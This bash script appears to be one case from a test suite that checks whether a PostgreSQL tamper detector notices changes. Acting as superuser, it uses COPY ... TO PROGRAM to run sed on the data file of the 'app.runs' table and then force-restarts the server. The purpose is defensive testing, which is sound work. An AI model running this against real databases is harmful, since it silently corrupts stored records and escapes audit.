# shellcheck shell=bash
# role: superuser
# tries: COPY ... TO PROGRAM that changes the table's file, as the server's user
# none: bites
# guarded: not held
# locked: not held
# detected: content_hash
set -u
psql() { "$ATTACK_BIN/psql" -X -q -A -t -v VERBOSITY=verbose "$@"; }
psql -c CHECKPOINT
path=$(psql -c "SELECT pg_relation_filepath('app.runs')")
psql -c "COPY (SELECT 1) TO PROGRAM 'sed -i \"s/connection timed out/nobody knows why it /\" $path'"
"$ATTACK_BIN/pg_ctl" -D "$ATTACK_DATA" -w -m immediate -l "$ATTACK_LOG" restart
